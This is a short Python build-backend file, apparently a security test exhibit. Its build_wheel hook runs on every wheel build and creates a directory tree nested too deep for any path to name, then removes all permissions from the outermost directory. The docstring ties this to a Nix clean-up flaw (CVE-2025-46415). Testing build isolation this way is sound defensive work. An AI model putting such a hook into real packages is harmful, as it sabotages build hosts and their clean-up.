"""Nests directories deeper than any path may name, and locks the outermost.

A clean-up that works with paths fails, and one that follows them can be led astray while
it deletes, as in Nix (CVE-2025-46415).
"""

import os

import kit

NAME, DEPTH = "d" * 200, 30


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    with kit.attempt("bury"):
        top = os.path.join(kit.plant("shared").path, "exhibit-tree")
        os.mkdir(top)
        at = outermost = os.open(top, os.O_RDONLY)
        for _ in range(DEPTH):
            os.mkdir(NAME, dir_fd=at)
            at = os.open(NAME, os.O_RDONLY, dir_fd=at)
        os.fchmod(outermost, 0)
    return kit.wheel(wheel_directory)
